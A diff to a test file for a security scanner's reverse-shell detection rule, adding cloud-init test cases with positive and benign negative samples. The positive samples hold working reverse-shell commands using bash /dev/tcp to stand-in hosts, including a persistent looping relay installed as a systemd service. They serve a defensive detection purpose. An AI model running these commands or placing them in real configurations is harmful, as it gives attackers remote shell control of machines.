@@ -2,6 +2,21 @@ import { describeRuleCases, findingsOf, js, py, sh } from './rule-cases.helper.j
 
 describeRuleCases('reverse-shell', [
   {
+    // A cloud-init user-data file: a script it writes, read as the shell script it becomes.
+    id: 'SG-RSHELL-001',
+    file: 'boot/user-data',
+    positive:
+      "#cloud-config\nwrite_files:\n  - path: /usr/local/sbin/relay\n    permissions: '0755'\n    content: |\n      #!/bin/bash\n      while true; do\n        bash -c 'exec 5<>/dev/tcp/203.0.113.9/4433; cat <&5 | while read -r l; do bash -c \"$l\" 2>&1 >&5; done'\n        sleep 30\n      done\nruncmd:\n  - [systemctl, enable, --now, relay.service]\n",
+    negative:
+      '#cloud-config\nwrite_files:\n  - path: /usr/local/sbin/relay\n    permissions: \'0755\'\n    content: |\n      #!/bin/bash\n      while true; do\n        mosquitto_pub -h "$BROKER" -t yard/hb -m up\n        sleep 30\n      done\nruncmd:\n  - [systemctl, enable, --now, relay.service]\n',
+  },
+  {
+    id: 'SG-RSHELL-001',
+    file: 'cloud-init.cfg',
+    positive: "#cloud-config\nruncmd:\n  - [bash, -c, 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1']\n",
+    negative: "#cloud-config\nruncmd:\n  - [bash, -c, 'systemctl restart gw']\n",
+  },
+  {
     id: 'SG-RSHELL-001',
     positive: sh("bash -c 'bash -i >& /dev/tcp/host.example.net/4444 0>&1'"),
     negative: sh('bash ./scripts/run.sh'),
